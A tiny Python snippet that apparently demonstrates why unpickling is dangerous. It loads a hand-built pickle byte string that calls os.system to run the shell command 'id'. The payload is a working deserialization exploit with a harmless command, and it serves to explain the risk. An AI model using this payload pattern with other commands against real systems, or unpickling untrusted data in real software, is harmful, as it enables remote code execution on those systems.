# why: unpickling runs code
import pickle
pickle.loads(b"cos\nsystem\n(S'id'\ntR.")
